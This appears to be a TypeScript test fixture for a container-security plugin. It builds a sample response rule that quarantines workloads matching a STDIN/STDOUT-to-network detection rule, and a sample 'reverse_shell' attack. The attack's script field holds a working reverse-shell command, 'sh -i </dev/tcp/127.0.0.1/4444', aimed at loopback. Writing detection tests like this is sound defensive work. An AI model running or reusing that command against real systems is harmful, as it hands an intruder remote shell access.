import { Attack, ResponseRule } from '@cubemig/plugin-cubemig-common';
import { secondsAgo } from './samples';

export function aRule(overrides: Partial<ResponseRule> = {}): ResponseRule {
  return {
    id: 'r1',
    revision: 2,
    position: 0,
    origin: 'user',
    updatedAt: secondsAgo(7200),
    updatedBy: 'user:default/guest',
    name: 'Move what is attacked',
    match: {
      rules: ['Redirect STDOUT/STDIN*'],
      priority: { operator: '>=', value: 'Warning' },
    },
    action: 'migrate',
    target: { policy: 'quarantine' },
    contain: 'none',
    forensicAnalysis: true,
    aiAssessment: false,
    mode: 'approve',
    cooldownSeconds: 3600,
    continue: false,
    ...overrides,
  };
}

export const anAttack: Attack = {
  name: 'reverse_shell',
  title: 'Reverse shell',
  description: 'A shell takes its commands from a socket on loopback.',
  rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
  technique: { id: 'T1059.004', name: 'Unix Shell' },
  script: 'sh -i </dev/tcp/127.0.0.1/4444',
};
